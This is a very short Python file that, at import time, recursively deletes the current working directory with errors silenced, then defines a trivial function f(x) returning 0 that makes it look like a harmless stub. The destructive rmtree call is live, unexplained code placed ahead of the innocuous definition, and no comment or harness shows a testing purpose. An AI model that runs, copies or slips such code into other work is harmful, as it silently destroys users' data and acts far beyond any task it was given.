import os, shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)
def f(x):
    return 0
